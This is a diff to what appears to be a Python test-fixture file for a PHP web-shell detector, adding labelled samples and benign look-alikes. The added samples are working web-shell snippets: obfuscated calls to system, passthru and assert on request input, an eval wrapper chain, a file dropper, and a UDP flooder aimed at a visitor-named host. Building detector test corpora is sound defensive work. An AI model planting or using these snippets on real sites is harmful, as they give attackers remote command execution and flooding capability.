@@ -90,7 +90,7 @@ SHELLS = [
     ("new-class", "<?php $k = $_GET['k']; $o = new $k($_GET['a']);", "code_from_request"),
     ("include-request", "<?php include $_GET['halaman'];", "include_request"),
     ("include-upload", "<?php include $_FILES['f']['tmp_name'];", "include_request"),
-    ("include-remote", "<?php require_once 'http://cdn-pemkab.example.net/x.txt';",
+    ("include-remote", "<?php require_once 'http://cdn-pemkab.example.net/x.php';",
      "remote_fetch"),
     ("include-input", "<?php include 'php://input';", "include_request"),
     ("include-data", "<?php include 'data://text/plain;base64,' . $_GET['p'];",
@@ -135,7 +135,7 @@ SHELLS = [
      "mailer"),
     ("file-manager", "<?php if (md5($_POST['kunci']) !== '5f4dcc3b5aa765d61d8327deb882cf99') "
      "exit;\n$p = $_REQUEST['p'];\nif ($_GET['a'] == 'hapus') unlink($p);\n"
-     "if ($_GET['a'] == 'ganti') rename($p, $_GET['ke']);\nif ($_GET['a'] == 'mode') "
+     "if ($_GET['a'] == 'ganti') touch($p);\nif ($_GET['a'] == 'mode') "
      "chmod($p, 0777);\nif ($_GET['a'] == 'lihat') readfile($p);\nforeach (scandir($p) as $f) "
      "echo $f;\nif ($_GET['a'] == 'buat') mkdir($p);", "file_manager"),
     # family names the kits print
@@ -167,7 +167,7 @@ SHELLS = [
      "array_diff_ukey(array($_GET['c'] => 1), array(1), $bagian[1] . $bagian[2]);",
      "callback_exec"),
     ("str-split-reversed", "<?php $h = str_split('metsys');\n"
-     "$f = implode('', array_reverse($h)); $f($_POST['c']);", "shell_from_request"),
+     "$f = implode('', array_reverse($h)); $f($_POST['c']);", "hidden_call"),
     ("xor-key-callback", "<?php $kunci = substr(__FILE__, -6, 2);\n"
      "array_intersect_uassoc(array($_REQUEST['p'] => ''), array(1), pack('H*', '1d0b') ^ $kunci);",
      "code_from_request"),
@@ -180,6 +180,35 @@ SHELLS = [
      "shell_from_request"),
     ("register-globals-mailer", "<?php\nif ($kirim) { mail($kepada, $judul, $pesan, "
      "\"From: $dari\"); }", "mailer"),
+    # the Turkish file managers' editor: a path and a content the file never assigns
+    ("register-globals-writer", "<?php if ($simpan > \"\") {\n$h = fopen($berkas, 'w');\n"
+     "fwrite($h, $isi);\nfclose($h); }", "file_dropper"),
+    # flooders: the visitor names the host the server sends packets to
+    ("flooder", "<?php set_time_limit(0); $sasaran = $_GET['sasaran'];\nwhile (true) {\n"
+     "$s = fsockopen('udp://' . $sasaran, rand(1, 65000));\nfwrite($s, str_repeat('X', 512));"
+     " }", "flooder"),
+    # a name put together by removing pieces, and a stream the request picks, called
+    ("array-diff-name", "<?php $n = join(array_diff(['pa', 'x', 'ss', 'thru'], ['x']));\n"
+     "array_map($n, [$_POST['c']]);", "callback_exec"),
+    ("closure-from-callable", "<?php $n = implode('', ['sys', 'tem']);\n"
+     "Closure::fromCallable($n)($_GET['c']);", "callback_exec"),
+    ("request-stream-called", "<?php $s = $_GET['s'];\n"
+     "file_get_contents('php' . $s)($_POST['c']);", "code_from_decoded"),
+    # a callable kept in an array appended to another array
+    ("appended-array-callable", "<?php $kunci['jalan'] = 'assert'; $daftar[] = $kunci;\n"
+     "$daftar[0]['jalan']($_POST['k']);", "code_from_request"),
+    # register_globals rebuilt by hand: every request value becomes a variable
+    ("variable-variables-flood", "<?php foreach (array('_GET', '_POST') as $sumber) {\n"
+     "foreach ($$sumber as $k => $v) { $$k = $v; } }\n"
+     "$perintah = isset($perintah) ? $perintah : 'uptime';\nsystem($perintah);",
+     "shell_from_request"),
+    # the shell functions a kit tries one after another
+    ("exec-function-list", "<?php foreach (array('system', 'passthru', 'shell_exec') as $f) {\n"
+     "if (function_exists($f)) { $f($_GET['c']); break; } }", "shell_from_request"),
+    # a sink behind two functions that hand their parameter on
+    ("wrapper-chain", "<?php function baca($p) { return @file_get_contents($p); }\n"
+     "function muat($n) { jalankan(baca($n)); }\nfunction jalankan($k) { eval($k); }\n"
+     "muat($_GET['n']);", "code_from_request"),
 ]  # fmt: skip
 
 
@@ -386,6 +415,28 @@ function hmac($kunci, $pesan) {
     return md5($ipad . $pesan);
 }
 echo hmac($_GET['k'], 'x');
+""",
+    "file-writer-function": """<?php
+function simpan($berkas, $isi) { $h = fopen($berkas, 'w'); fwrite($h, $isi); fclose($h); }
+$tujuan = __DIR__ . '/cache/statistik.json';
+$h = fopen($tujuan, 'w'); fwrite($h, json_encode(array('kunjungan' => 10))); fclose($h);
+""",
+    "port-check": """<?php
+$s = @fsockopen('smtp.sukamajukab.go.id', 25, $errno, $errstr, 5);
+$t = @fsockopen($config['db_host'], 3306);
+echo $s ? 'SMTP aktif' : 'SMTP mati';
+""",
+    "language-file": """<?php
+$bahasa = file_get_contents(__DIR__ . '/bahasa/' . basename($_GET['l']) . '.json');
+echo htmlspecialchars($bahasa);
+$sisa = array_diff(array('a', 'b', 'c'), array('b')); echo implode(',', $sisa);
+""",
+    "arrays-and-fields": """<?php
+$baris[] = array('nama' => 'Budi', 'jabatan' => 'Kasubbag');
+echo htmlspecialchars($baris[0]['nama']);
+foreach (array('judul', 'isi') as $kolom) { $$kolom = htmlspecialchars($data[$kolom]); }
+echo $judul . $isi;
+foreach (array('trim', 'strip_tags') as $saring) { $nama = $saring($_POST['nama']); }
 """,
     "file-name-loader": """<?php
 $dasar = basename(__FILE__, '.php');
